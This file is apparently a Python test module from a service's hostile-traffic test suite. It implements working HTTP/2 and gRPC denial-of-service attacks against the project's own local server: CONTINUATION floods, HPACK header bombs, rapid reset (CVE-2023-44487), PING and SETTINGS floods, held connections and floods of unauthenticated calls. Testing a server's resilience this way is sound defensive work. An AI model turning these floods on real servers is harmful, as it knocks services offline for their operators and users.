"""Attacks by HTTP/2 frames and gRPC calls that a client library would not send."""

from __future__ import annotations

import select
import socket
import struct
import time
from collections.abc import Iterator
from contextlib import ExitStack, suppress
from dataclasses import dataclass
from itertools import count, repeat

from tests.hostile.attack import Attack, Findings, Target
from tests.hostile.floods import FrameFlood
from tests.hostile.http2 import (
    ACK,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    PREFACE,
    RST_STREAM,
    SETTINGS,
    Http2Connection,
    call_headers,
    frame,
    indexed_field,
    literal_field,
)

__all__ = ["HTTP2_ATTACKS", "HeaderBombs"]

_CHECK = "/grpc.health.v1.Health/Check"
_WATCH = "/grpc.health.v1.Health/Watch"
_GENERATE = "/pagedray.v1.GenerationService/Generate"
_ENDED = END_HEADERS | END_STREAM
_LARGE_HEADER = literal_field(b"x", b"a" * 3900, is_indexed=True)
"""A header that just fits into the table."""
_LONG_NAME = literal_field(b"a" * 3900, b"x", is_indexed=True)
"""A header with a name that servers like to repeat in their errors."""


def _endless_headers() -> Iterator[bytes]:
    """Yield a HEADERS frame, then CONTINUATION frames of which none is the last."""
    yield frame(HEADERS, 0, 1, call_headers(_CHECK))
    fields = b"".join(literal_field(b"x-%d" % index, b"a" * 100) for index in range(140))
    yield from repeat(frame(CONTINUATION, 0, 1, fields))


def _bomb(entry: bytes) -> Iterator[bytes]:
    """Yield calls of 12 KB that stand for 47 MB of headers; the first call stores the header."""
    start, references = call_headers(_WATCH), indexed_field(0) * 12_000
    yield frame(HEADERS, _ENDED, 1, start + entry + references)
    for stream in range(3, 2**31, 2):
        yield frame(HEADERS, _ENDED, stream, start + references)


def _header_bomb() -> Iterator[bytes]:
    return _bomb(_LARGE_HEADER)


def _header_name_bomb() -> Iterator[bytes]:
    return _bomb(_LONG_NAME)


def _pings() -> Iterator[bytes]:
    return repeat(frame(PING, 0, 0, bytes(8)) * 500)


def _settings() -> Iterator[bytes]:
    """Yield frames that ask for an answer, and change a value that all streams use."""
    for size in count(65_535):
        yield frame(SETTINGS, 0, 0, struct.pack(">HI", _INITIAL_WINDOW_SIZE, size)) * 300


def _resets() -> Iterator[bytes]:
    """Yield calls that never count as open for long (CVE-2023-44487)."""
    headers, cancel = call_headers(_WATCH), struct.pack(">I", 8)
    for first in range(1, 2**31 - 200, 200):
        yield b"".join(
            frame(HEADERS, END_HEADERS, stream, headers) + frame(RST_STREAM, 0, stream, cancel)
            for stream in range(first, first + 200, 2)
        )


def _keyless_calls() -> Iterator[bytes]:
    """Yield complete calls, each of which is UNAUTHENTICATED."""
    headers = call_headers(_GENERATE)
    for first in range(1, 2**31 - 40, 40):
        yield b"".join(
            frame(HEADERS, END_HEADERS, stream, headers) + frame(DATA, END_STREAM, stream, bytes(5))
            for stream in range(first, first + 40, 2)
        )


@dataclass(frozen=True, kw_only=True)
class HeaderBombs(Attack):
    """64 connections each second that send 62 KiB each, which stand for 15 GB of headers."""

    is_bounded: bool = False
    acknowledges: bool = True
    entry: bytes = _LARGE_HEADER
    """The header that is named."""

    def data(self) -> bytes:
        """Return what one connection sends: four calls, of which the first stores the header."""
        start = call_headers(_WATCH)
        references = indexed_field(0) * (15_800 - len(self.entry))
        blocks = [start + self.entry + references, *[start + references] * 3]
        return b"".join(
            frame(HEADERS, _ENDED, 2 * index + 1, block) for index, block in enumerate(blocks)
        )

    def run(self, target: Target, seconds: float) -> Findings:
        """Open the connections at once, and close them before the next ones."""
        data, began_s, num_opened = self.data(), time.monotonic(), 0
        while (now_s := time.monotonic()) < began_s + seconds:
            with ExitStack() as stack:
                for _ in range(64):
                    with suppress(OSError):
                        connection = Http2Connection(
                            target.grpc_port, acknowledges=self.acknowledges
                        )
                        stack.enter_context(connection).send_frames(data, 0.05)
                        num_opened += 1
                time.sleep(max(0.0, min(now_s + 1.0, began_s + seconds) - time.monotonic()))
        return Findings(figures={"connections": num_opened, "bytes of each": len(data)})


class _HeldHeaders(Attack):
    """7 KiB of headers on each of a thousand connections, without a key."""

    def run(self, target: Target, seconds: float) -> Findings:
        """Open connections for half of the time, and hold them for the rest."""
        began_s = time.monotonic()
        fields = b"".join(literal_field(b"x-%d" % index, b"a" * 100) for index in range(64))
        begun = frame(HEADERS, 0, 1, call_headers(_CHECK) + fields)
        connections: list[Http2Connection] = []
        with ExitStack() as stack:
            while len(connections) < 1000 and time.monotonic() - began_s < seconds / 2:
                # Four hosts: one would have at most half of the connections.
                source = f"127.0.0.{2 + len(connections) % 4}"
                try:
                    connection = Http2Connection(target.grpc_port, source=source)
                except OSError:
                    time.sleep(0.05)
                    continue
                connections.append(stack.enter_context(connection))
                connection.send_unread(begun)
            time.sleep(max(0.0, began_s + seconds - time.monotonic()))
            for connection in connections:
                connection.read_for(0.0)
            num_open = sum(connection.is_open for connection in connections)
        return Findings(figures={"connections": len(connections), "open at the end": num_open})


class _WatchCalls(Attack):
    """As many Watch calls as the server allows, from the address of the honest probes."""

    def run(self, target: Target, seconds: float) -> Findings:
        """Open the calls and keep them open."""
        end_s = time.monotonic() + seconds
        headers = call_headers(_WATCH)
        with Http2Connection(target.grpc_port) as connection:
            for stream in range(1, 128, 2):
                connection.send_frames(
                    frame(HEADERS, END_HEADERS, stream, headers)
                    + frame(DATA, END_STREAM, stream, bytes(5))
                )
            while (left_s := end_s - time.monotonic()) > 0:
                connection.read_for(min(left_s, 0.1))
        return Findings(figures={"calls": 64})


_NUM_CALLS = 200
_NUM_BYTES = 3 * 2**19
_WINDOW = 2**16 - 1
_MAX_FRAME = 2**14
_WINDOW_UPDATE = 8
_INITIAL_WINDOW_SIZE = 4


class _UnendingMessages(Attack):
    """Messages that every server takes, less a byte, as calls of one connection."""

    def run(self, target: Target, seconds: float) -> Findings:
        """Send as much of each message as the server lets the client."""
        end_s = time.monotonic() + seconds
        with socket.create_connection(("127.0.0.1", target.grpc_port), 10.0) as connection:
            calls = _Calls(target.key or "")
            connection.setblocking(False)
            data = bytearray(calls.start())
            while time.monotonic() < end_s and calls.is_open:
                data += calls.next_frames(2**18 - len(data))
                writing = [connection] if data else []
                readable, writable, _ = select.select([connection], writing, [], 0.05)
                with suppress(BlockingIOError):
                    if readable:
                        data += calls.receive(connection.recv(2**18))
                    if writable:
                        del data[: connection.send(data)]
        return Findings(
            figures={
                "calls_ended": calls.num_ended,
                "sent_mib": calls.num_sent // 2**20,
                "held_calls": len(calls.windows),
            }
        )


class _Calls:
    """The calls of an HTTP/2 connection, as far as its windows go."""

    def __init__(self, key: str) -> None:
        self.is_open = True
        self.num_ended = 0
        self.num_sent = 0
        self.windows: dict[int, int] = {}
        """What each call may send."""
        self._left: dict[int, int] = {}
        self._window = _WINDOW
        self._initial_window = _WINDOW
        self._received = bytearray()
        self._block = call_headers(
            "/pagedray.v1.GenerationService/Generate", {"authorization": f"Bearer {key}"}
        )

    def start(self) -> bytes:
        """Return the preface and the heads of all calls."""
        frames = [PREFACE, frame(SETTINGS, 0, 0)]
        for stream in range(1, 2 * _NUM_CALLS, 2):
            frames.append(frame(HEADERS, END_HEADERS, stream, self._block))
            self.windows[stream] = self._initial_window
            self._left[stream] = _NUM_BYTES + 4
        return b"".join(frames)

    def next_frames(self, most_bytes: int) -> bytes:
        """Return what the windows allow, in frames of about so many bytes."""
        frames = bytearray()
        for stream, window in self.windows.items():
            left = self._left[stream]
            size = min(window, left, self._window, _MAX_FRAME)
            if size <= 5 or len(frames) >= most_bytes:
                continue
            is_first = left == _NUM_BYTES + 4
            prefix = b"\0" + struct.pack(">I", _NUM_BYTES) if is_first else b""
            frames += frame(DATA, 0, stream, prefix + b" " * (size - len(prefix)))
            self.windows[stream] -= size
            self._left[stream] -= size
            self._window -= size
            self.num_sent += size
        return bytes(frames)

    def receive(self, data: bytes) -> bytes:
        """Take the server's frames; return the answer to them."""
        if not data:
            self.is_open = False
        self._received += data
        answer = b""
        while len(self._received) >= 9:
            size = int.from_bytes(self._received[:3])
            if len(self._received) < 9 + size:
                break
            kind, flags = self._received[3], self._received[4]
            stream = int.from_bytes(self._received[5:9])
            payload = bytes(self._received[9 : 9 + size])
            del self._received[: 9 + size]
            if kind == SETTINGS and not flags & ACK:
                self._take_settings(payload)
                answer += frame(SETTINGS, ACK, 0)
            elif kind == _WINDOW_UPDATE:
                self._widen(stream, int.from_bytes(payload))
            elif kind == RST_STREAM or (kind == HEADERS and flags & END_STREAM):
                self.num_ended += self.windows.pop(stream, None) is not None
        return answer

    def _take_settings(self, payload: bytes) -> None:
        for at in range(0, len(payload), 6):
            setting, value = struct.unpack(">HI", payload[at : at + 6])
            if setting == _INITIAL_WINDOW_SIZE:
                for stream in self.windows:
                    self.windows[stream] += value - self._initial_window
                self._initial_window = value

    def _widen(self, stream: int, num_bytes: int) -> None:
        if stream == 0:
            self._window += num_bytes
        elif stream in self.windows:
            self.windows[stream] += num_bytes


HTTP2_ATTACKS: dict[str, Attack] = {
    # A gateway bounds what gRPC handles before a call reaches the server.
    "continuation_flood": FrameFlood(
        name="CONTINUATION flood", is_bounded=False, frames=_endless_headers
    ),
    "header_bomb": FrameFlood(name="HPACK bomb", is_bounded=False, frames=_header_bomb),
    "header_name_bomb": FrameFlood(
        name="HPACK bomb, long name", is_bounded=False, frames=_header_name_bomb
    ),
    "header_bombs": HeaderBombs(name="HPACK bombs on 64 connections"),
    # gRPC accepts 16 MiB before the acknowledgement of its limits; hence a short header.
    "unacknowledged_bombs": HeaderBombs(
        name="HPACK bombs, no SETTINGS ACK",
        acknowledges=False,
        entry=literal_field(b"x", b"", is_indexed=True),
    ),
    "held_headers": _HeldHeaders(name="gRPC headers that never end"),
    "keyless_calls": FrameFlood(
        name="calls without a key", is_bounded=False, frames=_keyless_calls
    ),
    "ping_flood": FrameFlood(name="PING flood", frames=_pings),
    "rapid_reset": FrameFlood(name="rapid reset", is_bounded=False, frames=_resets),
    "settings_flood": FrameFlood(name="SETTINGS flood", frames=_settings),
    # 64 MiB of a tenant's messages, and what the allocator keeps beside them.
    "unending_messages": _UnendingMessages(name="unending messages", max_growth_mib=112.0),
    "watch_calls": _WatchCalls(name="Watch calls"),
}
